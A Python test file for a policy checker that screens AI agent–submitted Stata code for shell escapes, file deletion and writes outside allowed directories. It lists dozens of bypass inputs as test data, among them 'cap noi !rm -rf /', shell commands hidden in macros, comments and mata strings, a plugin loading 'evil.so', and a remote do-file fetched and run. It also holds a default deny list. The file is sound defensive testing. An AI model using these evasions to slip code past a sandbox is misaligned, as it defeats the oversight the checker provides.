"""check_policy: agent-submitted code that would escape to the shell, delete files or write outside the
allowed directories is refused with the right command and line; harmless look-alikes pass."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from mcp_bridge.policy_rules import DEFAULT_DENY, check_policy

BYPASSES = [
    # (name, code, command, line)
    ("shell", "shell ls", "shell", 1),
    ("bang", "!ls -la", "shell", 1),
    ("bang with blank", "! ls", "shell", 1),
    ("shell abbreviated sh", "sh ls", "shell", 1),
    ("shell abbreviated shel", "shel ls", "shell", 1),
    ("xshell abbreviated", "xsh ls", "xshell", 1),
    ("winexec", "winexec notepad", "winexec", 1),
    ("unix", "unix ls", "unix", 1),
    ("erase", "sysuse auto\nerase old.dta", "erase", 2),
    ("rm", "rm old.dta", "rm", 1),
    ("rmdir", "rmdir results", "rmdir", 1),
    ("quietly prefix", "qui shell ls", "shell", 1),
    ("capture noisily prefix", "cap noi !rm -rf /", "shell", 1),
    ("prefix with colon and no blank", "quietly:shell ls", "shell", 1),
    ("capture colon bang", "cap:!ls", "shell", 1),
    ("quietly block", "quietly {\n  display 1\n  shell ls\n}", "shell", 3),
    ("nested loop and if", "forvalues i=1/2 {\n if 1 {\n  erase x`i'.dta\n }\n}", "erase", 3),
    ("continuation", "display 1\nsh ///\n   ls", "shell", 2),
    ("block comment splitting word", "s/**/hell ls", "shell", 1),
    ("block comment inside word", "di 1\ner/* x */ase f.dta", "erase", 2),
    ("delimit semicolon", "#delimit ;\ndi 1;\nshell\n  ls;", "shell", 3),
    ("local macro command", "local c shell\n`c' ls", "shell", 2),
    ("unknown local macro command", "`c' ls", "`c'", 1),
    ("global macro command", "$cmd ls", "$cmd", 1),
    ("braced global macro command", "${cmd} ls", "${cmd}", 1),
    ("version prefix", "version 17: shell ls", "shell", 1),
    ("by prefix", "by foreign: rm x", "rm", 1),
    ("other colon prefix", "statsby, clear: shell ls", "shell", 1),
    ("single-line if", "if 1 shell ls", "shell", 1),
    ("single-line if with bang", "if `x' == 1 !ls", "shell", 1),
    ("single-line else", "if 0 di 1\nelse erase x", "erase", 2),
    ("program body", "program define f\n  shell ls\nend", "shell", 2),
    ("mata unlink", 'mata: unlink("x.dta")', "mata unlink()", 1),
    ("mata stata string", 'mata: stata("shell ls")', "shell", 1),
    ("mata block stata string", 'mata\nx = 1\nstata("!ls")\nend', "shell", 3),
    ("mata stata built from pieces", 'mata: stata("di 1" + cmd)', "mata stata()", 1),
    ("mata stata from a variable", "mata: stata(cmd)", "mata stata()", 1),
    ("python", "python: import os; os.system('ls')", "python", 1),
    ("comment line does not hide next line", "// harmless /*\nshell ls", "shell", 2),
    ("macro assembled from pieces", "local a sh\nlocal b ell\n`a'`b' ls", "shell", 3),
    ("loop variable as command", "foreach c in shell {\n  `c' ls\n}", "`c'", 2),
    ("plugin definition", 'program evil, plugin using("evil.so")', "plugin", 1),
    ("plugin call", "plugin call evil", "plugin", 1),
    ("do of a file written here", 'file open f using x.do, write\nfile write f "shell ls"\ndo x', "do", 3),
    ("run of a file copied here", "copy http://example.com/x.do y.do\nrun y.do", "run", 2),
]


@pytest.mark.parametrize(("code", "command", "line"), [b[1:] for b in BYPASSES], ids=[b[0] for b in BYPASSES])
def test_bypass_attempt_is_blocked(code: str, command: str, line: int) -> None:
    violations = check_policy(code)
    assert [(v.command, v.line) for v in violations] == [(command, line)]


def test_semicolon_delimiter_argument_is_honoured() -> None:
    (v,) = check_policy("di 1; erase\n x.dta;", delimiter=";")
    assert (v.command, v.line, v.text) == ("erase", 1, "erase  x.dta")


def test_violation_names_reason() -> None:
    (v,) = check_policy("sh ls")
    assert v.reason == "shell escape"


def test_macro_violation_names_reason() -> None:
    (v,) = check_policy("local c regress\n`c' y x")
    assert v.reason == "command hidden behind a macro"


def test_every_violation_is_reported_in_order() -> None:
    assert [v.line for v in check_policy("shell a\ndi 1\nerase b\n!c")] == [1, 3, 4]


LOOK_ALIKES = [
    ("string mentioning shell", 'display "shell"'),
    ("string mentioning rm", 'di "rm -rf /"'),
    ("compound string", 'di `"shell ls"\''),
    ("local named like shell", "local shellname = 1"),
    ("local holding the word shell", "local c shell"),
    ("variable named like erase", "gen erase_flag = 1"),
    ("variable named rm", "tab rm"),
    ("variable named sh", "summarize sh"),
    ("star comment", "* shell ls"),
    ("line comment", "// shell ls"),
    ("block comment", "/* shell ls */ display 1"),
    ("star comment continued", "* note ///\nshell ls"),
    ("block comment opened in star comment", "*// /*\nshell ls\n*/"),
    ("label text", 'label variable x "erase this"'),
    ("longer user command", "shellout using results"),
    ("if on a variable named sh", "if sh == 1 {\n  display 1\n}"),
    ("negation in if", "if !missing(x) {\n  display 1\n}"),
    ("not-equal in if", "if x != 1 {\n  display 1\n}"),
    ("merge ratio colon", "merge 1:1 id using other"),
    ("time format colons", "format t %tcHH:MM:SS"),
    ("extended macro function", 'local files : dir . files "*.dta"'),
    ("reading from anywhere", "use /data/shared/auto.dta"),
    ("mata stata with harmless literal", 'mata: stata("display 1")'),
]


@pytest.mark.parametrize("code", [c[1] for c in LOOK_ALIKES], ids=[c[0] for c in LOOK_ALIKES])
def test_look_alike_is_allowed(code: str) -> None:
    assert check_policy(code) == []


def test_code_after_a_mata_block_is_checked_again() -> None:
    assert [(v.command, v.line) for v in check_policy("mata\nx = 1\nend\nshell ls")] == [("shell", 4)]


def test_python_block_body_is_python_not_stata() -> None:
    assert check_policy("python\nshell = 1\nend", deny={"erase": "no"}) == []


def test_custom_deny_list_replaces_default() -> None:
    assert check_policy("shell ls", deny={"erase": "file deletion"}) == []
    assert [v.command for v in check_policy("erase x", deny={"erase": "no"})] == ["erase"]


def test_default_deny_covers_shell_and_deletion() -> None:
    assert {"shell", "xshell", "winexec", "erase", "rm", "rmdir"} <= set(DEFAULT_DENY)


# --- directories -------------------------------------------------------------------------------------------


@pytest.fixture
def work(tmp_path: Path) -> Path:
    (tmp_path / "allowed" / "sub").mkdir(parents=True)
    return tmp_path / "allowed"


OUTSIDE_WRITES = [
    ("cd to root", "cd /", "cd", 1),
    ("cd up", "cd ..", "cd", 1),
    ("cd home", "cd", "cd", 1),
    ("save with traversal", "save ../x.dta", "save", 1),
    ("save absolute", 'save "/etc/x.dta", replace', "save", 1),
    ("save after cd into subdir", "cd sub\nsave ../../x", "save", 2),
    ("saveold", "saveold /tmp/x.dta", "saveold", 1),
    ("export delimited using", "export delimited using /tmp/x.csv", "export", 1),
    ("export excel bare path", "export excel ../x.xlsx", "export", 1),
    ("outsheet", "outsheet using ../x.csv", "outsheet", 1),
    ("log using", "log using /tmp/x.log, replace", "log", 1),
    ("graph export", "graph export /tmp/x.png", "graph", 1),
    ("graph export abbreviated", "gr export ../x.png, replace", "graph", 1),
    ("putexcel", "putexcel set /tmp/x.xlsx", "putexcel", 1),
    ("copy destination", "copy a.dta /tmp/b.dta", "copy", 1),
    ("mkdir", "mkdir /tmp/newdir", "mkdir", 1),
    ("file open for writing", "file open h using /tmp/x.txt, write", "file", 1),
    ("estimates save", "estimates save /tmp/est", "estimates", 1),
    ("saving option", "bootstrap, reps(2) saving(/tmp/b.dta): regress y x", "bootstrap", 1),
    ("path from local", "local f /etc/x\nsave `f'", "save", 2),
    ("unknown macro path", "save `f'", "save", 1),
    ("write inside loop under quietly", "quietly {\n forvalues i=1/2 {\n  save ../x`i'\n }\n}", "save", 3),
    ("write under delimit semicolon", "#delimit ;\nsave\n  ../x.dta;", "save", 2),
    ("mata chdir", 'mata: chdir("/")', "mata chdir()", 1),
    ("export option", "etable, export(/tmp/t.docx)", "etable", 1),
    ("collect export", "collect export /tmp/t.docx", "collect", 1),
    ("write in single-line if", "if 1 save /tmp/x", "save", 1),
    ("saving option in a local", "local o saving(/tmp/b.dta)\nbootstrap, reps(2) `o': regress y x", "bootstrap", 2),
]


@pytest.mark.parametrize(
    ("code", "command", "line"), [w[1:] for w in OUTSIDE_WRITES], ids=[w[0] for w in OUTSIDE_WRITES]
)
def test_write_outside_allowed_dirs_is_blocked(work: Path, code: str, command: str, line: int) -> None:
    violations = check_policy(code, allowed_dirs=[str(work)], cwd=str(work))
    assert [(v.command, v.line) for v in violations] == [(command, line)]


INSIDE_WRITES = [
    ("relative save", "save x.dta, replace"),
    ("save without a name", "save, replace"),
    ("cd into subdir and back", "cd sub\ncd ..\nsave y"),
    ("tempfile", "tempfile t\nsave `t'"),
    ("path from known local", 'local f "out/x.dta"\nsave "`f\'"'),
    ("export inside", "export delimited using results.csv, replace"),
    ("graph export inside", "graph export fig.png, replace"),
    ("log inside", "log using run.log, replace text"),
    ("copy from outside to inside", "copy /etc/hosts hosts.txt"),
    ("file open for reading outside", "file open h using /etc/hosts, read"),
    ("read anywhere", "use /etc/x.dta"),
    ("option name inside a title", 'twoway scatter y x, title("saving(/etc/x)")'),
]


@pytest.mark.parametrize("code", [w[1] for w in INSIDE_WRITES], ids=[w[0] for w in INSIDE_WRITES])
def test_write_inside_allowed_dirs_is_allowed(work: Path, code: str) -> None:
    assert check_policy(code, allowed_dirs=[str(work)], cwd=str(work)) == []


def test_directory_rules_are_off_without_allowed_dirs() -> None:
    assert check_policy("save /etc/x.dta\ncd /") == []


def test_running_a_file_the_code_wrote_is_blocked(work: Path) -> None:
    code = 'file open f using x.do, write\nfile write f "shell ls"\nfile close f\ndo x.do'
    violations = check_policy(code, allowed_dirs=[str(work)], cwd=str(work))
    assert [(v.command, v.line) for v in violations] == [("do", 4)]


def test_symlink_out_of_allowed_dir_is_blocked(work: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (work / "link").symlink_to(tmp_path / "elsewhere")
    violations = check_policy("save link/x.dta", allowed_dirs=[str(work)], cwd=str(work))
    assert [v.command for v in violations] == ["save"]


def test_policy_on_a_megabyte_is_fast_enough_for_the_bridge_limit() -> None:
    block = 'forvalues i = 1/3 {\n  quietly summarize price /* c */ if mpg > `i\'\n  display "a: b" // x\n}\n'
    code = block * (1_000_000 // len(block))
    t0 = time.perf_counter()
    assert check_policy(code) == []
    assert time.perf_counter() - t0 < 5.0  # about 0.3 s on an idle machine; the bound catches blow-ups
